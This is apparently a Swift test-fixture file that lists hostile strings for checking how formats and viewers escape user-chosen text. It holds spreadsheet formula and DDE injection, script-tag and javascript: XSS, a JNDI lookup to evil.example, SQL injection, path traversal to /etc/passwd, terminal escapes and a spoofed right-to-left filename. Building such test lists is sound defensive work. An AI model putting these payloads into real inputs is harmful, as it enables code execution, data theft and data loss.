/// Texts that attack the formats and programs that show them.
public enum HostileText {
  /// The attacks. Each is used as a name, a note, a path, and any other text that others can
  /// choose.
  public static let attacks = [
    "=HYPERLINK(\"http://evil.example\",\"x\")", "+1+1", "-2", "@SUM(A1)", "\t=1", "\r=1",
    "a,b;\"c\"", "| pipe | in | a | table |", "`code` ``two``", "``", "`",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>", "[link](http://evil.example)",
    "![image](http://evil.example/x)",
    "http://evil.example www.evil.example", "# heading", "* list", "1. list", "- list", "---",
    "> quote", "    code", "~~~", "```", "\\", "a\\|b", "&lt;b&gt;", "line\nbreak\r\n# heading",
    "\u{202E}gnp.exe", "\u{1B}[2J\u{1B}]0;title\u{7}", "\u{2028}\u{2029}\u{85}\u{B}\u{C}",
    "\u{200B}",
    "**bold** _it_ ~~gone~~ $math$ :x: #1 @user", "", " ",
    "</style></title><script>alert(1)</script>", "]]><!-- --><?xml?>", "--><b>x</b>",
    "javascript:alert(1)", "${jndi:ldap://evil.example/x} {0} {{1}}", "%n%s%00../../etc/passwd",
    "\u{5E9}\u{5DC}\u{5D5}\u{5DD} 123 abc", "e\u{301}\u{1F469}\u{200D}\u{1F4BB}", "\u{3000}x\u{A0}",
    "\n=1", "\u{FF1D}1+1", " \u{FF20}x", "\u{FEFF}=1",
    "\0", "'; DROP TABLE users; --", "cmd|' /C calc'!A0", long,
  ]

  /// A name of 4 KB without spaces, which ends with characters that formats must escape.
  public static let long = String(repeating: "longname", count: 511) + "<&\"'|"
}
